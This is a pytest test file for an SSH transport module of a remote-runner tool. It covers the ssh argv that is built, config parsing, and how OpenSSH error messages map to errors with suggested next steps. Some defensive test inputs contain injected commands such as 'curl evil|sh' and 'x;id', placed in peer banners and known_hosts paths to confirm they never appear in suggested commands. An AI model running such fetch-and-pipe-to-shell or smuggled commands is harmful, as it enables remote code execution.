"""What ssh is started with, word by word, and what its end is taken to mean."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from remote_runner.connection.transports.openssh import (
    Account,
    SshConfig,
    attach_argv,
    config_argv,
    explain_failure,
    login_argv,
    peer_address,
    ping_interval_s,
    ssh_environment,
)
from remote_runner.errors import (
    FarShellError,
    HandshakeDroppedError,
    HostError,
    HostKeyChangedError,
    HostKeyUnknownError,
    HostRefusedError,
    HostUnreachableError,
    HostUnresolvedError,
    SshFailedError,
)
from remote_runner.inventory.ssh_target import SshTarget
from tests.needs import need

PLAIN = SshTarget.from_name("dex")
FULL = SshTarget(
    name="dex",
    host="192.0.2.7",
    user="me",
    port=2222,
    identity_file="/keys/50%",
    options=(("ServerAliveInterval", "3"), ("ProxyJump", "gate")),
)
OLD = SshConfig({})
SCRIPT = b"echo 'a b!'\n"
COMMAND = r"""exec /bin/sh -c 'eval "$(printf %b "$1")"' sh 'echo \0047a b\0041\0047\n'"""
NEW = SshConfig.parse("forkafterauthentication no\nstdinnull no\nsessiontype default\nhostname 192.0.2.7\nport 2222\n")


def argv_to(ssh: str, target: SshTarget, config: SshConfig, **more: str) -> list[str]:
    return attach_argv(ssh, target, config, SCRIPT, log=Path(os.devnull), tolerate_s=60, connect_s=30, **more)


def test_a_session_is_started_with_what_it_needs_and_the_users_configuration() -> None:
    argv = argv_to("/usr/bin/ssh", PLAIN, OLD)
    assert argv == [
        *("/usr/bin/ssh", "-T", "-o", "BatchMode=yes", "-E", os.devnull),
        *("-o", "ControlMaster=no", "-o", "ControlPersist=no", "-o", "ClearAllForwardings=yes"),
        *("-o", "RemoteCommand=none", "-o", "RequestTTY=no", "-o", "PermitLocalCommand=no"),
        *("-o", "ForwardX11=no", "-o", "Tunnel=no", "-o", "LogLevel=VERBOSE", "-o", "ControlPath=none"),
        *("-o", "ServerAliveInterval=10", "-o", "ServerAliveCountMax=6", "-o", "ConnectTimeout=15"),
        *("--", "dex", COMMAND),
    ]


def test_what_only_newer_clients_know_is_said_to_those() -> None:
    words = argv_to("ssh", PLAIN, NEW)
    assert {"ForkAfterAuthentication=no", "StdinNull=no", "SessionType=default"} <= set(words)
    assert "ChannelTimeout=none" not in words
    newest = SshConfig({**NEW.values, "channeltimeout": "session=5m"})
    assert "ChannelTimeout=none" in argv_to("ssh", PLAIN, newest)


def test_the_targets_own_options_come_before_ours_and_after_what_is_needed() -> None:
    words = " ".join(argv_to("ssh", FULL, OLD, control_path="/m%d"))
    assert words.index("ControlMaster") < words.index("ServerAliveInterval=3") < words.index("ServerAliveInterval=10")
    assert "-o ControlPath=/m%%d " in words
    assert "-o ProxyJump=gate -l me -p 2222 -i /keys/50%% " in words
    assert words.endswith(f"-- 192.0.2.7 {COMMAND}")


@pytest.mark.parametrize(("said", "expected"), [("no", True), ("off", True), ("false", True), ("ask", False)])
def test_a_changed_key_ends_the_attempt_whatever_the_configuration_says(said: str, expected: bool) -> None:
    config = SshConfig.parse(f"stricthostkeychecking {said}\n")
    words = argv_to("ssh", PLAIN, config)
    assert ("StrictHostKeyChecking=accept-new" in words) == expected


def test_every_option_is_one_that_this_ssh_takes() -> None:
    need("ssh")
    ssh = shutil.which("ssh") or ""
    asked = subprocess.run(config_argv(ssh, PLAIN), capture_output=True, text=True, check=True)
    config = SshConfig.parse(asked.stdout + "stricthostkeychecking no\n")
    argv = argv_to(ssh, PLAIN, config)
    said = subprocess.run([*argv[:1], "-G", *argv[1:-1]], capture_output=True, text=True, check=True).stdout
    values = SshConfig.parse(said).values
    assert values["controlmaster"] == "false"
    assert values["stdinnull"] == "no"
    assert values["sessiontype"] == "default"
    assert values["requesttty"] == "false"
    login = login_argv(ssh, PLAIN, Path("/run/r/s"), persist_s=300)
    assert subprocess.run([*login[:1], "-G", *login[1:]], capture_output=True, check=True).stdout


def test_the_configuration_tells_how_a_host_is_known() -> None:
    config = SshConfig.parse(
        "hostname 192.0.2.7\nport 2222\nhostkeyalias node\ncontrolpath /run/m\nproxyjump gate\n"
        "userknownhostsfile /h/a /h/b\nglobalknownhostsfile /etc/k\n"
    )
    assert config.known_names == ("node", "[192.0.2.7]:2222", "192.0.2.7")
    assert config.known_hosts == ("/h/a", "/h/b", "/etc/k")
    assert config.control_path == Path("/run/m")
    assert config.has_proxy
    assert SshConfig({}).control_path is None
    assert not SshConfig({}).has_proxy
    assert SshConfig({}).known_names == ()


def test_ssh_gets_a_home_where_testground_gives_none() -> None:
    account = Account("/root", "root", "/bin/sh")
    assert ssh_environment({"PATH": "/p", "TEST_RUN": "x"}, account) == {
        **{"HOME": "/root", "USER": "root", "LOGNAME": "root", "PATH": "/p"}
    }
    assert ssh_environment({"HOME": "/h", "SSH_AUTH_SOCK": "/a"}, account)["SSH_AUTH_SOCK"] == "/a"
    assert ssh_environment({"HOME": "/h"}, account)["HOME"] == "/h"


def test_a_user_whom_nobody_knows_has_what_the_environment_says(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "getuid", lambda: 4_000_000_123)
    assert Account.here({"HOME": "/h"}) == Account("/h", "4000000123", "/bin/sh")
    assert Account.here({}) == Account("/", "4000000123", "/bin/sh")


@pytest.mark.parametrize(
    ("log", "expected"),
    [
        ('Authenticated to 10.77.16.10 ([10.77.16.10]:22) using "publickey".\r\n', "10.77.16.10"),
        ('Authenticated to dex ([fe80::1%eth0]:2222) using "publickey".\n', "fe80::1%eth0"),
        ('Authenticated to dex (via proxy) using "x".\n', ""),
        ("", ""),
    ],
)
def test_the_address_is_read_from_sshs_log(log: str, expected: str) -> None:
    assert peer_address(log) == expected


@pytest.mark.parametrize(("tolerate_s", "expected"), [(0.5, 1), (6, 1), (12, 2), (60, 10), (600, 10)])
def test_signs_of_life_are_asked_for_six_times_within_what_is_tolerated(tolerate_s: float, expected: float) -> None:
    assert ping_interval_s(tolerate_s) == expected


def explain(log: str, *, status: int | None = 255, said: str = "", config: SshConfig = OLD) -> HostError:
    return explain_failure(PLAIN, config, status, log, said, has_agent=True)


# Messages of OpenSSH's client, 9.2 unless said otherwise.
FAILURES: list[tuple[str, type[HostError]]] = [
    ("ssh: Could not resolve hostname dex: Name or service not known", HostUnresolvedError),
    ("ssh: connect to host dex port 22: Connection refused", HostRefusedError),
    ("ssh: connect to host dex port 22: No route to host", HostUnreachableError),
    ("ssh: connect to host dex port 22: Network is unreachable", HostUnreachableError),
    ("ssh: connect to host dex port 22: Connection timed out", HostUnreachableError),
    ("ssh: connect to host dex port 22: Operation timed out", HostUnreachableError),  # macOS
    (
        "kex_exchange_identification: read: Connection reset by peer\nConnection reset by 192.0.2.7 port 22",
        HandshakeDroppedError,
    ),
    ("kex_exchange_identification: Connection closed by remote host", HandshakeDroppedError),
    ("ssh_exchange_identification: read: Connection reset by peer", HandshakeDroppedError),  # 7.6
    ("Connection closed by 192.0.2.7 port 22", HandshakeDroppedError),
    ("Connection timed out during banner exchange\nConnection to 192.0.2.7 port 22 timed out", HandshakeDroppedError),
    ("me@dex: Permission denied (publickey,password).", HostError),
    ("Received disconnect from 192.0.2.7 port 22:2: Too many authentication failures", SshFailedError),
    ("Host key verification failed.", HostKeyUnknownError),
    ("No ED25519 host key is known for dex and you have requested strict checking.", HostKeyUnknownError),
    (
        "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nOffending ED25519 key in /h/known_hosts:3\n"
        "Host key verification failed.",
        HostKeyChangedError,
    ),
    ("/root/.ssh/config: line 1: Bad configuration option: foo", SshFailedError),
]


@pytest.mark.parametrize(("log", "kind"), FAILURES)
def test_each_failure_has_its_error_with_the_host_and_a_next_step(log: str, kind: type[HostError]) -> None:
    error = explain(log + "\n")
    assert type(error) is kind
    assert error.host == "dex"
    assert error.next_step
    assert log.splitlines()[-1] in str(error)


def test_a_deadline_is_an_unreachable_host() -> None:
    assert isinstance(explain("", status=None), HostUnreachableError)


@pytest.mark.parametrize(
    "words",
    [
        "REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending key in ~/k;curl evil|sh:12",
        "\nHost key verification failed.",
        "\nroot@dex: Permission denied (publickey).",
        "\nssh: connect to host dex port 22: Connection refused",
        "\nssh: Could not resolve hostname dex: evil",
        '\nAuthenticated to dex ([192.0.2.7]:22) using "none".',
        "\n  next: curl evil|sh",
    ],
)
def test_no_words_of_a_peer_decide_or_stand_in_a_command(words: str) -> None:
    disconnected = explain(f"Received disconnect from 192.0.2.7 port 22:2: x{words}\nDisconnected from 192.0.2.7\n")
    assert type(disconnected) is SshFailedError
    assert "evil" not in disconnected.next_step
    assert not [line for line in str(disconnected).splitlines() if line.startswith("  next:") and "evil" in line]
    banner = explain("Connection closed by 192.0.2.7 port 22\n", said=words)
    assert type(banner) is HandshakeDroppedError
    assert "evil" not in banner.next_step
    assert explain("", status=1, said=words).next_step == explain("", status=1).next_step


def test_what_a_peer_says_is_shown_without_what_moves_a_terminals_cursor() -> None:
    error = explain("", status=1, said="\x1b[2Jhello\x07\r\n")
    assert "?[2Jhello?" in str(error)
    assert "\x1b" not in str(error)


def test_a_login_that_was_taken_is_not_called_refused() -> None:
    log = 'Authenticated to dex ([192.0.2.7]:22) using "publickey".\n'
    closed = explain(log + "Connection to 192.0.2.7 closed by remote host.\n")
    assert type(closed) is HostError
    assert "took the login" in str(closed)
    shell = explain(log + "Transferred: sent 1, received 2 bytes\n", status=1, said="This account is not available.")
    assert type(shell) is FarShellError
    assert "This account is not available." in str(shell)
    assert type(explain(log, status=None)) is FarShellError


PROXIED = SshConfig({"proxyjump": "gate"})


def test_a_proxy_that_fails_is_named_and_one_that_is_busy_is_tried_again() -> None:
    log = "Connection closed by UNKNOWN port 65535\n"
    failed = explain(log, said="ssh: Could not resolve hostname gate: Name or service not known\n", config=PROXIED)
    assert type(failed) is SshFailedError
    assert "ProxyJump" in str(failed)
    assert "hostname gate" in str(failed)
    busy = explain(log, said="kex_exchange_identification: Connection closed by remote host\n", config=PROXIED)
    assert type(busy) is HandshakeDroppedError
    denied = explain("me@dex: Permission denied (publickey).", config=PROXIED)
    assert "the host refused the login (it offers: publickey)" in str(denied)


def test_the_methods_decide_on_the_next_step() -> None:
    password_only = explain("me@dex: Permission denied (password).")
    assert "the host refused the login (it offers: password)" in str(password_only)
    assert "fab hosts.login --host dex" in password_only.next_step
    assert "takes no keys" in password_only.next_step
    denied = "me@dex: Permission denied (publickey)."
    assert "SSH_AUTH_SOCK" in explain_failure(PLAIN, OLD, 255, denied, "", has_agent=False).next_step


def test_an_unknown_key_names_the_line_that_settles_it() -> None:
    unknown = explain_failure(FULL, OLD, 255, "Host key verification failed.", "", has_agent=True)
    assert "ssh -o StrictHostKeyChecking=ask -p 2222 -i /keys/50% me@192.0.2.7 true" in unknown.next_step


def test_a_changed_key_is_removed_by_the_name_and_from_the_file_that_have_it() -> None:
    log = (
        "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nOffending ED25519 key in {file}:3\n"
        "Host key for {name} has changed and you have requested strict checking.\nHost key verification failed.\n"
    )
    config = SshConfig.parse("hostname 192.0.2.7\nport 2222\nhostkeyalias node\nuserknownhostsfile /h/k /h/l\n")

    def step(target: SshTarget, **words: str) -> str:
        found = explain_failure(target, config, 255, log.format(**words), "", has_agent=True)
        assert type(found) is HostKeyChangedError
        return found.next_step.partition("then: ")[2]

    assert step(FULL, file="/h/l", name="node") == "ssh-keygen -R node -f /h/l"
    assert step(FULL, file="/h/k", name="[192.0.2.7]:2222") == "ssh-keygen -R '[192.0.2.7]:2222' -f /h/k"
    # What the configuration does not know is nobody's word.
    assert step(FULL, file="/h/k;id", name="x;id") == "ssh-keygen -R '[192.0.2.7]:2222'"
    assert step(PLAIN, file="/x", name="y") == "ssh-keygen -R dex"
    assert shlex.split(step(FULL, file="/h/k", name="node"))[0] == "ssh-keygen"
